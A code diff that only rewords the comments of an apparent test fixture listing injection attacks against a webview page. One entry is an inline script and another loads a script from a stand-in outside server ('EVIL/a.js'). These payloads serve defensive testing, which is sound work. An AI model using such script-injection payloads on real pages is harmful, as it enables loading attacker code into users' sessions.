@@ -1,17 +1,17 @@
 /** An attack by a foreign text that became a part of a webview's page. */
 export interface Try {
   name: string;
-  /** Is put into the page as it is. `EVIL` is an address of another server. */
+  /** Inserted into the page as it is. `EVIL` is an address of another server. */
   markup?: string;
-  /** Is pressed then. */
+  /** The selector of the element that is clicked then. */
   press?: string;
-  /** Is done by a script that runs already. */
+  /** Done by a script that runs already. */
   script?: string;
   /** Navigates away from the page, or would. */
   leaves?: true;
 }
 
-/** A script that runs leaves a mark, and everything that is fetched comes to the other server. */
+/** A script that runs leaves a mark, and every fetch reaches the other server. */
 export const tries: readonly Try[] = [
   { name: 'an inline script', script: `add('script', { textContent: 'ATTACK' })` },
   { name: 'a script from elsewhere', script: `add('script', { src: 'EVIL/a.js' })` },
